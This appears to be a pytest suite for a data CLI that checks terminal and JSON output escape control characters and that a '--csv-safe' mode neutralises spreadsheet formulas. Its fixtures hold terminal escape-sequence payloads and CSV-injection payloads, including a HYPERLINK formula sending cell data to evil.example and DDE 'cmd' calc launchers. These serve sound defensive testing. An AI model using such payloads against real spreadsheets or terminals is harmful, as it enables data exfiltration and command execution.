"""Nothing in data acts on a terminal or a spreadsheet, through whatever a command prints it."""

import csv
import io
import json
import sys
import warnings
from collections.abc import Callable
from typing import Any

import pyarrow as pa
import pytest
import typer
from rich.text import Text
from typer.testing import CliRunner, Result

from atdp.lakehouse import QueryResult
from atdp.stack import DataConsole, Format, FormatOption, JsonOption, StackError, choose_format
from atdp.stack.cli.app import AtdpGroup, build
from atdp.stack.cli.elapsed_line import elapsed_line
from atdp.stack.cli.output import print_csv, print_record, print_rows
from atdp.stack.cli.terminal import EscapingStream, escaping_output, write_data

ACTING = "\x1b]0;owned\x07 \x1b[2J \x9b31m \u202e \u2066 \u2028 \r \x7f"
ROWS: list[dict[str, object]] = [{"agent": ACTING, ACTING: 1, "nested": {"key": [ACTING]}}]
LEFT = set(ACTING) - {" "}
"""Control characters of the text, and letters in it that stand alone for nothing."""
CONTROLS = {each for each in LEFT if not each.isprintable()}


def run(verb: Callable[..., None], *words: str) -> Result:
    """Run a command line whose only verb is `verb`."""
    app = typer.Typer(cls=AtdpGroup, rich_markup_mode=None, pretty_exceptions_enable=False)
    app.command("verb")(verb)
    app.callback()(lambda: None)
    return CliRunner().invoke(app, ["verb", *words])


def print_all_forms() -> None:
    print_rows(ROWS, list(ROWS[0]), Format.TABLE, title=ACTING)
    print_rows(ROWS, list(ROWS[0]), Format.TABLE, folded=False)
    print_record(ROWS[0], Format.TABLE)
    typer.echo(ACTING)
    typer.echo(ACTING, err=True)
    sys.stdout.write(ACTING)
    sys.stderr.write(ACTING)
    warnings.warn(ACTING, stacklevel=1)
    DataConsole().print(f"[bold]{ACTING}[/]", Text(ACTING))
    DataConsole(stderr=True).print(ACTING, markup=False, style="dim")


@pytest.mark.filterwarnings("default")
def test_tables_messages_and_warnings_show_control_characters() -> None:
    result = run(print_all_forms)
    assert result.exit_code == 0, result.output
    for shown in (result.stdout, result.stderr):
        assert CONTROLS & set(shown) == set()
        assert shown.count("\\u001b]0;owned\\u0007") >= 2
    assert result.stdout.count("\\u202e") >= 10


@pytest.mark.parametrize("error", [StackError(ACTING), RuntimeError(ACTING)])
def test_errors_and_tracebacks_show_control_characters(error: Exception) -> None:
    def fail() -> None:
        raise error

    result = run(fail)
    assert result.exit_code == 1
    assert "\\u001b]0;owned" in result.stderr
    assert CONTROLS & set(result.stderr) == set()


def test_wrong_calls_show_control_characters() -> None:
    result = CliRunner().invoke(build(), [ACTING])
    assert result.exit_code == 2
    assert CONTROLS & set(result.stderr) == set()


@pytest.mark.parametrize("record", [True, False])
def test_json_is_escaped_and_holds_the_same_values(record: bool) -> None:
    def show() -> None:
        if record:
            print_record(ROWS[0], Format.JSON)
        else:
            print_rows(ROWS, list(ROWS[0]), Format.JSON)

    shown = run(show).stdout
    assert CONTROLS & set(shown) == set()
    assert json.loads(shown) == (ROWS[0] if record else ROWS)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("kind", [Terminal, io.StringIO])
def test_data_for_programs_is_escaped_on_a_terminal_only(
    kind: type[io.StringIO], monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = kind()
    monkeypatch.setattr(sys, "stdout", stream)
    with escaping_output():
        write_data(f"{ACTING}\n")
    assert (set(stream.getvalue()) >= CONTROLS) == (not stream.isatty())


def test_styles_and_lines_of_progress_still_act(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = Terminal()
    monkeypatch.setattr(sys, "stderr", stream)
    monkeypatch.setenv("TERM", "xterm")
    with escaping_output():
        assert isinstance(sys.stderr, EscapingStream)
        DataConsole(stderr=True, force_terminal=True).print("[bold]word[/]\x1b[2J")
        with elapsed_line(ACTING, quiet_s=0.0):
            while "owned" not in stream.getvalue():
                pass
    assert "\x1b[1mword" in stream.getvalue()
    assert stream.getvalue().count("\r\x1b[K") >= 2
    assert "\x1b[2J" not in stream.getvalue()
    assert "\x1b]0" not in stream.getvalue()


CELLS: dict[str, str] = {
    '=HYPERLINK("http://evil.example/?"&A1)': "'",
    "+cmd|' /C calc'!A0": "'",
    "-2+3+cmd|' /C calc'!A0": "'",
    "@SUM(1+1)": "'",
    "\t=1": "'",
    "\r=1": "'",
    " =1": "'",
    "＝1": "'",
    "-12.5": "",
    "+3e-7": "",
    "a;=1": "",
    "plain": "",
}


def show_cells(form: FormatOption = None, as_json: JsonOption = False) -> None:
    rows: list[dict[str, Any]] = [{"name": cell, "=column": -1.5} for cell in CELLS]
    print_rows(rows, ["name", "=column"], choose_format(form, as_json) or Format.TABLE)


def test_csv_is_exact_for_programs_and_without_formulas_for_spreadsheets() -> None:
    exact = csv.reader(io.StringIO(run(show_cells, "--format", "csv").stdout, newline=""))
    assert [row[0] for row in exact] == ["name", *CELLS]
    for words in (["--csv-safe"], ["--format", "csv", "--csv-safe"]):
        shown = run(show_cells, *words).stdout
        assert all(line.startswith('"') and line.endswith('"') for line in shown.splitlines())
        header, *rows = csv.reader(io.StringIO(shown))
        assert header == ["name", "'=column"]
        for (name, number), (cell, prefix) in zip(rows, CELLS.items(), strict=True):
            assert name == prefix + cell.replace("\r", "\\u000d")
            assert number == "-1.5"


def test_safe_csv_is_asked_for_anew_in_every_call_and_is_no_json() -> None:
    run(show_cells, "--csv-safe")
    assert "'=" not in run(show_cells, "--format", "csv").stdout
    assert run(show_cells, "--csv-safe", "--json").exit_code == 2


def test_every_verb_with_a_format_prints_safe_csv() -> None:
    group: Any = typer.main.get_command(build())
    group.load_all()

    def verbs(command: Any) -> list[Any]:
        parts = getattr(command, "commands", {}).values()
        return [command, *(verb for part in parts for verb in verbs(part))]

    named = [
        {text for parameter in verb.params for text in parameter.opts} for verb in verbs(group)
    ]
    assert sum("--csv-safe" in options for options in named) > 30
    assert all(("--csv-safe" in options) == ("--format" in options) for options in named)


def test_the_result_of_a_query_is_made_safe_too() -> None:
    def show(form: FormatOption = None) -> None:
        assert choose_format(form, as_json=False) is Format.CSV
        print_csv(QueryResult(pa.table({"agent": ["=1+1", 'a"\r'], "n": [-3, 4]})).csv_cells())

    assert run(show, "--format", "csv").stdout == 'agent,n\n=1+1,-3\n"a""\r",4\n'
    safe = '"agent","n"\n"\'=1+1","-3"\n"a""\\u000d","4"\n'
    assert run(show, "--csv-safe").stdout == safe
